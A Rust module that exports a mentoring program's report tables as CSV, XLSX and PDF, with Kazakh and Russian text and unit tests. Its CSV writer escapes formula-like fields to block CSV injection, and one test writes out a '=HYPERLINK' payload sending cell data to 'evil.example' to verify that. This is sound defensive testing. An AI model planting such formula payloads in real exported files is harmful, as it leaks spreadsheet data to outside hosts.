//! A report's tables as files: CSV (one line per cell), XLSX (a sheet per table, each with a
//! native bar chart) and PDF (tables and the same SVG bar charts the dashboard shows). Fonts:
//! DejaVu Sans, embedded, for Cyrillic and the Kazakh letters.

use std::sync::{Arc, LazyLock};

use domain::reports::{Cell, Table, chart};
use krilla::Document;
use krilla::color::rgb;
use krilla::geom::{Point, Size};
use krilla::page::PageSettings;
use krilla::paint::Fill;
use krilla::surface::Surface;
use krilla::text::{Font, TextDirection};
use krilla_svg::{SurfaceExt, SvgSettings};

/// What the first lines of every file say.
pub struct Heading {
    pub title: String,
    pub tenant: String,
    pub period: String,
    pub generated: String,
    pub note: String,
    pub language: String,
    /// The first sheet's name in the XLSX, in the report's language.
    pub summary_sheet: String,
}

/// UTF-8's byte order mark: without it Excel on Windows reads the CSV in the system's code page
/// and the Cyrillic comes out garbled.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// One line per cell: section, row, column, value (suppressed cells as `<5`), after a BOM.
pub fn csv(h: &Heading, tables: &[Table]) -> anyhow::Result<Vec<u8>> {
    let mut w = csv::Writer::from_writer(BOM.to_vec());
    w.write_record(
        [&h.title, &h.tenant, &h.period, &h.generated].map(|f| as_text(f).into_owned()),
    )?;
    w.write_record(["section", "row", "column", "value"])?;
    for t in tables {
        for r in &t.rows {
            for (i, c) in r.cells.iter().enumerate() {
                let column = t.columns.get(i + 1).map_or("", String::as_str);
                let value = c.display();
                w.write_record(
                    [t.key.as_str(), &r.label, column, &value].map(|f| as_text(f).into_owned()),
                )?;
            }
        }
    }
    Ok(w.into_inner()?)
}

/// A CSV field that a spreadsheet shows as text. Names come from people (a region, an
/// institution, a tenant): one starting with `=`, `+`, `-`, `@`, a tab or a carriage return
/// would run as a formula (`=HYPERLINK(…)` sending the sheet's data away) when a funder opens
/// the file in Excel. A leading apostrophe is the spreadsheets' own "this is text" mark (OWASP's
/// advice for CSV injection).
fn as_text(field: &str) -> std::borrow::Cow<'_, str> {
    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{field}").into()
    } else {
        field.into()
    }
}

/// A sheet per table, numbers as numbers, suppressed cells as the text `<5`, and a bar chart of
/// the chart column beside the table.
pub fn xlsx(h: &Heading, tables: &[Table]) -> anyhow::Result<Vec<u8>> {
    use rust_xlsxwriter::{Chart, ChartType, Format, Workbook};
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let percent = Format::new().set_num_format("0%");
    let bold_percent = Format::new().set_bold().set_num_format("0%");
    let summary = book.add_worksheet();
    summary.set_name(sheet_name(&h.summary_sheet, &mut Vec::new()))?;
    for (i, line) in [&h.title, &h.tenant, &h.period, &h.generated, &h.note]
        .into_iter()
        .enumerate()
    {
        summary.write_string(i as u32, 0, line.as_str())?;
    }
    summary.set_column_width(0, 60)?;
    let mut names = vec![h.summary_sheet.to_lowercase()];
    for t in tables {
        // Sheets are named in the report's language; the chart refers to its sheet by name.
        let name = sheet_name(&t.title, &mut names);
        let sheet = book.add_worksheet();
        sheet.set_name(name.as_str())?;
        sheet.write_string_with_format(0, 0, t.title.as_str(), &bold)?;
        for (c, heading) in t.columns.iter().enumerate() {
            sheet.write_string_with_format(2, c as u16, heading.as_str(), &bold)?;
        }
        for (r, row) in t.rows.iter().enumerate() {
            let at = 3 + r as u32;
            if row.total {
                sheet.write_string_with_format(at, 0, row.label.as_str(), &bold)?;
            } else {
                sheet.write_string(at, 0, row.label.as_str())?;
            }
            for (c, cell) in row.cells.iter().enumerate() {
                let col = 1 + c as u16;
                match cell {
                    Cell::Count(n) => sheet.write_number(at, col, *n as f64)?,
                    Cell::Percent(n) => sheet.write_number_with_format(
                        at,
                        col,
                        f64::from(*n) / 100.0,
                        if row.total { &bold_percent } else { &percent },
                    )?,
                    Cell::Days(n) => sheet.write_number(at, col, f64::from(*n))?,
                    other => sheet.write_string(at, col, other.display())?,
                };
            }
        }
        sheet.set_column_width(0, 40)?;
        let body = t.rows.iter().filter(|r| !r.total).count() as u32;
        if let (Some(c), true) = (t.chart_column, body > 0) {
            let mut chart = Chart::new(ChartType::Bar);
            chart
                .add_series()
                .set_name(t.columns.get(c + 1).map_or("", String::as_str))
                .set_categories((name.as_str(), 3, 0, 2 + body, 0))
                .set_values((name.as_str(), 3, 1 + c as u16, 2 + body, 1 + c as u16));
            chart.title().set_name(t.title.as_str());
            chart.legend().set_hidden();
            sheet.insert_chart(4 + t.rows.len() as u32, 0, &chart)?;
        }
    }
    Ok(book.save_to_buffer()?)
}

/// A sheet's name from a title: what Excel allows (31 characters, none of `[]:*?/\\`, not
/// starting or ending with an apostrophe) and unlike the sheets before it (`taken`, lower case,
/// as Excel compares them).
fn sheet_name(title: &str, taken: &mut Vec<String>) -> String {
    let clean: String = title
        .chars()
        .map(|c| if "[]:*?/\\".contains(c) { ' ' } else { c })
        .collect();
    let clean = clean.trim().trim_matches('\'').trim();
    let base: String = clean.chars().take(31).collect();
    let base = if base.is_empty() {
        "—".to_string()
    } else {
        base
    };
    let mut name = base.clone();
    let mut n = 2;
    while taken.contains(&name.to_lowercase()) {
        let suffix = format!(" ({n})");
        let keep = 31 - suffix.chars().count();
        name = format!(
            "{}{suffix}",
            base.chars().take(keep).collect::<String>().trim_end()
        );
        n += 1;
    }
    taken.push(name.to_lowercase());
    name
}

static REGULAR: LazyLock<Option<Font>> =
    LazyLock::new(|| Font::new(dejavu::sans::regular().into(), 0));
static BOLD: LazyLock<Option<Font>> = LazyLock::new(|| Font::new(dejavu::sans::bold().into(), 0));
/// The charts' SVG names "DejaVu Sans"; only it is loaded, so no system font is needed.
static SVG_OPTIONS: LazyLock<usvg::Options<'static>> = LazyLock::new(|| {
    let mut fonts = usvg::fontdb::Database::new();
    fonts.load_font_data(dejavu::sans::regular().to_vec());
    fonts.load_font_data(dejavu::sans::bold().to_vec());
    fonts.set_sans_serif_family("DejaVu Sans");
    usvg::Options {
        fontdb: Arc::new(fonts),
        font_family: "DejaVu Sans".into(),
        ..Default::default()
    }
});

/// The same fonts' faces, to measure text as it will be drawn: a label is wrapped to its
/// column by its real width, never cut, and never runs into the next column.
static FACES: LazyLock<[Option<ttf_parser::Face<'static>>; 2]> = LazyLock::new(|| {
    [
        ttf_parser::Face::parse(dejavu::sans::regular(), 0).ok(),
        ttf_parser::Face::parse(dejavu::sans::bold(), 0).ok(),
    ]
});

/// The width of `text` drawn at `size` points.
fn text_width(text: &str, size: f32, bold: bool) -> f32 {
    let Some(face) = &FACES[usize::from(bold)] else {
        // Never without the embedded font; a generous guess all the same.
        return text.chars().count() as f32 * size * 0.7;
    };
    let em = f32::from(face.units_per_em());
    let units: f32 = text
        .chars()
        .map(|c| {
            face.glyph_index(c)
                .and_then(|g| face.glyph_hor_advance(g))
                .map_or(em * 0.6, f32::from)
        })
        .sum();
    units * size / em
}

/// `text` in lines no wider than `width` at `size`: broken at spaces, and inside a word only
/// where the word alone is wider.
fn wrap_to(text: &str, width: f32, size: f32, bold: bool) -> Vec<String> {
    let fits = |t: &str| text_width(t, size, bold) <= width;
    let mut lines = Vec::new();
    let mut current = String::new();
    for word in text.split_whitespace() {
        let joined = if current.is_empty() {
            word.to_string()
        } else {
            format!("{current} {word}")
        };
        if fits(&joined) {
            current = joined;
            continue;
        }
        if !current.is_empty() {
            lines.push(std::mem::take(&mut current));
        }
        for c in word.chars() {
            current.push(c);
            if !fits(&current) && current.chars().count() > 1 {
                current.pop();
                lines.push(std::mem::take(&mut current));
                current.push(c);
            }
        }
    }
    if !current.is_empty() || lines.is_empty() {
        lines.push(current);
    }
    lines
}

const PAGE_W: f32 = 595.0;
const PAGE_H: f32 = 842.0;
const MARGIN: f32 = 42.0;
const LINE: f32 = 15.0;
/// Tables: headings and rows, their sizes and line heights, and the space kept between columns.
const HEAD_SIZE: f32 = 8.5;
const HEAD_LINE: f32 = 10.5;
const BODY_SIZE: f32 = 9.5;
const BODY_LINE: f32 = 12.5;
const COLUMN_GAP: f32 = 6.0;

/// Writes lines top to bottom, starting a new page when the next block does not fit.
struct Writer {
    pages: Vec<Vec<Op>>,
    y: f32,
}

enum Op {
    Text {
        x: f32,
        y: f32,
        size: f32,
        bold: bool,
        text: String,
    },
    Svg {
        y: f32,
        tree: Box<usvg::Tree>,
        w: f32,
        h: f32,
    },
}

impl Writer {
    fn need(&mut self, height: f32) {
        if self.pages.is_empty() || self.y + height > PAGE_H - MARGIN {
            self.pages.push(Vec::new());
            self.y = MARGIN;
        }
    }
    fn text(&mut self, x: f32, size: f32, bold: bool, text: &str) {
        self.need(size * 1.4);
        let y = self.y + size;
        if let Some(page) = self.pages.last_mut() {
            page.push(Op::Text {
                x,
                y,
                size,
                bold,
                text: text.to_string(),
            });
        }
    }
    /// Text whose top is at `top` on the current page (the caller made room with `need`).
    fn text_at(&mut self, x: f32, top: f32, size: f32, bold: bool, text: &str) {
        if let Some(page) = self.pages.last_mut() {
            page.push(Op::Text {
                x,
                y: top + size,
                size,
                bold,
                text: text.to_string(),
            });
        }
    }
    /// A paragraph, wrapped at spaces to the page's width (measured).
    fn line(&mut self, size: f32, bold: bool, text: &str) {
        for part in wrap_to(text, PAGE_W - 2.0 * MARGIN, size, bold) {
            self.text(MARGIN, size, bold, &part);
            self.y += size * 1.5;
        }
    }
}

fn draw(surface: &mut Surface<'_>, ops: &[Op]) {
    surface.set_fill(Some(Fill {
        paint: rgb::Color::new(20, 20, 20).into(),
        ..Default::default()
    }));
    for op in ops {
        match op {
            Op::Text {
                x,
                y,
                size,
                bold,
                text,
            } => {
                let font = if *bold { &*BOLD } else { &*REGULAR };
                if let Some(font) = font {
                    surface.draw_text(
                        Point::from_xy(*x, *y),
                        font.clone(),
                        *size,
                        text,
                        false,
                        TextDirection::Auto,
                    );
                }
            }
            Op::Svg { y, tree, w, h } => {
                if let Some(size) = Size::from_wh(*w, *h) {
                    surface.push_transform(&krilla::geom::Transform::from_translate(MARGIN, *y));
                    surface.draw_svg(tree, size, SvgSettings::default());
                    surface.pop();
                }
            }
        }
    }
}

/// The report as a PDF: a heading, then each table with its chart.
pub fn pdf(h: &Heading, tables: &[Table]) -> anyhow::Result<Vec<u8>> {
    let pages = layout(h, tables);
    let mut doc = Document::new();
    for ops in &pages {
        let settings =
            PageSettings::from_wh(PAGE_W, PAGE_H).ok_or_else(|| anyhow::anyhow!("page size"))?;
        let mut page = doc.start_page_with(settings);
        let mut surface = page.surface();
        draw(&mut surface, ops);
        surface.finish();
        page.finish();
    }
    doc.set_metadata(
        krilla::metadata::Metadata::new()
            .title(h.title.clone())
            .language(h.language.clone()),
    );
    doc.finish().map_err(|e| anyhow::anyhow!("PDF: {e:?}"))
}

/// The pages of the PDF, as what is drawn where.
fn layout(h: &Heading, tables: &[Table]) -> Vec<Vec<Op>> {
    let mut w = Writer {
        pages: Vec::new(),
        y: MARGIN,
    };
    w.line(18.0, true, &h.title);
    w.line(12.0, false, &h.tenant);
    w.line(12.0, false, &h.period);
    w.line(9.0, false, &h.generated);
    w.line(9.0, false, &h.note);
    w.y += LINE;
    let usable = PAGE_W - 2.0 * MARGIN;
    for t in tables {
        // A table's title stays with its first rows.
        w.need(LINE * 4.0);
        w.line(13.0, true, &t.title);
        let cells = t.columns.len().saturating_sub(1).max(1) as f32;
        let label_w = if cells > 3.0 { 170.0 } else { 260.0 };
        let cell_w = (usable - label_w) / cells;
        // Column `i`'s left edge and the width its text may take (a gap before the next).
        let left = |i: usize| {
            if i == 0 {
                MARGIN
            } else {
                MARGIN + label_w + (i - 1) as f32 * cell_w
            }
        };
        let room = |i: usize| if i == 0 { label_w } else { cell_w } - COLUMN_GAP;
        // Figures are right-aligned in their column; labels start at its left edge.
        let place = |i: usize, text: &str, size: f32, bold: bool| {
            if i == 0 {
                left(0)
            } else {
                left(i) + room(i) - text_width(text, size, bold)
            }
        };
        let heads: Vec<Vec<String>> = t
            .columns
            .iter()
            .enumerate()
            .map(|(i, h)| wrap_to(h, room(i), HEAD_SIZE, true))
            .collect();
        let head_lines = heads.iter().map(Vec::len).max().unwrap_or(1) as f32;
        w.need(head_lines * HEAD_LINE + LINE * 2.0);
        let top = w.y;
        for (i, lines) in heads.iter().enumerate() {
            for (k, line) in lines.iter().enumerate() {
                let x = place(i, line, HEAD_SIZE, true);
                w.text_at(x, top + k as f32 * HEAD_LINE, HEAD_SIZE, true, line);
            }
        }
        w.y = top + head_lines * HEAD_LINE + 4.0;
        for r in &t.rows {
            // The label wraps in its column, and so does a text cell (a grant's funder); a
            // row is as tall as its tallest.
            let mut columns = vec![wrap_to(&r.label, room(0), BODY_SIZE, r.total)];
            columns.extend(
                r.cells
                    .iter()
                    .enumerate()
                    .map(|(i, c)| wrap_to(&c.display(), room(i + 1), BODY_SIZE, r.total)),
            );
            let lines = columns.iter().map(Vec::len).max().unwrap_or(1) as f32;
            w.need(lines * BODY_LINE + 2.0);
            let top = w.y;
            for (i, column) in columns.iter().enumerate() {
                for (k, line) in column.iter().enumerate() {
                    let x = place(i, line, BODY_SIZE, r.total);
                    w.text_at(x, top + k as f32 * BODY_LINE, BODY_SIZE, r.total, line);
                }
            }
            w.y = top + lines * BODY_LINE + 2.0;
        }
        if let Some(svg) = chart::svg(t)
            && let Ok(tree) = usvg::Tree::from_str(&svg, &SVG_OPTIONS)
        {
            let scale = usable / tree.size().width();
            let height = tree.size().height() * scale;
            w.y += 6.0;
            w.need(height);
            let y = w.y;
            if let Some(page) = w.pages.last_mut() {
                page.push(Op::Svg {
                    y,
                    tree: Box::new(tree),
                    w: usable,
                    h: height,
                });
            }
            w.y += height;
        }
        w.y += LINE * 1.5;
    }
    w.pages
}

#[cfg(test)]
mod tests {
    use super::*;
    use domain::Locale;
    use domain::reports::{CohortFigures, Figures, FunnelStep, Period, RegionActivity};

    fn sample() -> (Heading, Vec<Table>) {
        sample_in(Locale::Kk)
    }

    fn sample_in(l: Locale) -> (Heading, Vec<Table>) {
        let d = |m, day| chrono::NaiveDate::from_ymd_opt(2026, m, day).unwrap();
        let f = Figures {
            period: Period::month_before(d(11, 1)),
            regions: vec!["Алматы".into(), "Қарағанды".into()],
            funnel: FunnelStep::all()
                .into_iter()
                .enumerate()
                .map(|(i, s)| (s, vec![40 - 4 * i as u64, 12 - i as u64]))
                .collect(),
            documents_rejected: vec![("pdf_encrypted".into(), 7), ("empty".into(), 2)],
            cohorts: vec![CohortFigures {
                title: "Тәлімгерлер мектебі, күз".into(),
                starts_on: d(10, 5),
                enrolled: 24,
                completed: 21,
            }],
            active_mentors: 31,
            activity: vec![
                RegionActivity {
                    meetings: 120,
                    pairs: 30,
                    pairs_on_track: 26,
                    children_waiting: 9,
                    waiting_days: 400,
                    ..Default::default()
                },
                RegionActivity {
                    meetings: 14,
                    group_sessions: 6,
                    pairs: 6,
                    pairs_on_track: 5,
                    groups: 3,
                    children_waiting: 3,
                    waiting_days: 100,
                },
            ],
            closures: vec![(domain::matching::CloseReason::TermCompleted, 6)],
            concerns: vec![(domain::support::Severity::High, 5, 5)],
        };
        let heading = Heading {
            title: l.t("report-kind-monthly"),
            tenant: "Ustaz Алматы".into(),
            period: f.period.label(),
            generated: "01.11.2026".into(),
            note: l.t("report-suppression-note"),
            language: l.code().into(),
            summary_sheet: l.t("report-sheet-summary"),
        };
        (heading, f.tables(l, domain::reports::Audience::Shared))
    }

    #[test]
    fn the_three_files_are_written_in_kazakh_with_charts() {
        let (h, tables) = sample();
        let pdf = pdf(&h, &tables).unwrap();
        assert!(pdf.starts_with(b"%PDF-"));
        // Each table's chart is drawn: the bars are filled paths (`re … f` or `… f`), and the
        // embedded DejaVu subset carries the Kazakh letters.
        assert!(pdf.len() > 20_000, "{} bytes", pdf.len());
        if let Ok(path) = std::env::var("USTAZ_SAMPLE_REPORT") {
            std::fs::write(path, &pdf).unwrap();
        }
        let xlsx = xlsx(&h, &tables).unwrap();
        assert!(xlsx.starts_with(b"PK"));
        let csv = csv(&h, &tables).unwrap();
        // Excel on Windows reads Cyrillic right only after UTF-8's mark.
        assert!(csv.starts_with(BOM));
        let csv = String::from_utf8(csv).unwrap();
        assert!(csv.contains("funnel,Берілген өтінімдер,Алматы,40"), "{csv}");
        // 2 empty files: suppressed.
        assert!(csv.contains("documents,Бос файл,Құжаттар,<5"), "{csv}");
    }

    /// A region an admin named `=HYPERLINK(…)` is text in the CSV a funder opens in Excel,
    /// not a formula; so is every other field starting with a formula character.
    #[test]
    fn csv_fields_that_look_like_formulas_are_written_as_text() {
        let (mut h, mut tables) = sample();
        h.tenant = "@SUM(A1:A9)".into();
        let t = &mut tables[0];
        t.rows[0].label = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Алматы\")".into();
        t.rows[1].label = "+1".into();
        t.rows[2].label = "-2+3".into();
        t.rows[3].label = "\tTab".into();
        let csv = csv(&h, &tables).unwrap();
        let csv = csv.strip_prefix(BOM).unwrap();
        let mut r = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv);
        let fields: Vec<String> = r
            .records()
            .flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>())
            .collect();
        for f in &fields {
            assert!(
                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a field a spreadsheet would run: {f:?}"
            );
        }
        assert!(fields.contains(&"'@SUM(A1:A9)".to_string()), "{fields:?}");
        assert!(
            fields.iter().any(|f| f.starts_with("'=HYPERLINK(")),
            "{fields:?}"
        );
        assert!(fields.contains(&"'-2+3".to_string()), "{fields:?}");
        // Ordinary names are untouched.
        assert!(fields.contains(&"Алматы".to_string()), "{fields:?}");
    }

    /// Issue 19, principle 8: in Kazakh, Russian and English, with a label longer than its
    /// column, nothing a table writes runs outside the page's text area or into the text
    /// beside it: labels and headings wrap, in full (no "…", no cut letters).
    #[test]
    fn no_text_of_a_table_runs_into_another_or_off_the_page() {
        for l in [Locale::Kk, Locale::Ru, Locale::En] {
            let (h, mut tables) = sample_in(l);
            let long = "Школа наставников для выпускников интернатных учреждений, осенний поток";
            tables[2].rows[0].label = long.into();
            let pages = layout(&h, &tables);
            let mut written = String::new();
            for ops in &pages {
                let mut lines: Vec<(f32, f32, f32, &str)> = ops
                    .iter()
                    .filter_map(|op| match op {
                        Op::Text {
                            x,
                            y,
                            size,
                            bold,
                            text,
                        } => Some((*y, *x, *x + text_width(text, *size, *bold), text.as_str())),
                        Op::Svg { .. } => None,
                    })
                    .collect();
                lines.sort_by(|a, b| a.0.total_cmp(&b.0).then(a.1.total_cmp(&b.1)));
                for (y, x, end, text) in &lines {
                    assert!(
                        *x >= MARGIN - 0.01 && *end <= PAGE_W - MARGIN + 0.01,
                        "{l:?}: {text:?} runs off the text area ({x}–{end})"
                    );
                    assert!(
                        *y <= PAGE_H - MARGIN + 0.01,
                        "{l:?}: {text:?} below the page"
                    );
                    written.push_str(text);
                    written.push(' ');
                }
                for pair in lines.windows(2) {
                    let (a, b) = (pair[0], pair[1]);
                    if a.0 == b.0 {
                        assert!(
                            a.2 <= b.1 + 0.01,
                            "{l:?}: {:?} runs into {:?} ({} > {})",
                            a.3,
                            b.3,
                            a.2,
                            b.1
                        );
                    }
                }
            }
            assert!(!written.contains('…'), "{l:?}: something was cut");
            // The long label is there in full, wrapped.
            let words: Vec<&str> = long.split(' ').collect();
            assert!(
                words.iter().all(|w| written.contains(w)),
                "{l:?}: the long label lost words: {written}"
            );
            for t in &tables {
                for heading in &t.columns {
                    for word in heading.split_whitespace() {
                        assert!(
                            written.contains(word),
                            "{l:?}: {word:?} of {heading:?} lost"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn measured_wrapping_keeps_every_letter_within_the_width() {
        let text = "Қарағанды облысындағы тәлімгерлер мектебінің түлектері";
        for width in [40.0, 80.0, 150.0] {
            let lines = wrap_to(text, width, 9.5, false);
            assert_eq!(lines.concat().replace(' ', ""), text.replace(' ', ""));
            for line in &lines {
                assert!(text_width(line, 9.5, false) <= width, "{line:?} at {width}");
            }
        }
        assert_eq!(wrap_to("", 50.0, 9.5, false), [""]);
    }

    #[test]
    fn sheet_names_are_what_excel_allows_and_unique() {
        let mut taken = Vec::new();
        let a = sheet_name("Воронка отбора: этапы [по регионам]", &mut taken);
        assert!(
            a.chars().count() <= 31 && !a.contains([':', '[', ']']),
            "{a}"
        );
        let b = sheet_name("Воронка отбора: этапы [по регионам]", &mut taken);
        assert_ne!(a.to_lowercase(), b.to_lowercase());
        assert!(b.chars().count() <= 31, "{b}");
        assert_eq!(sheet_name("'?'", &mut taken), "—");
    }
}
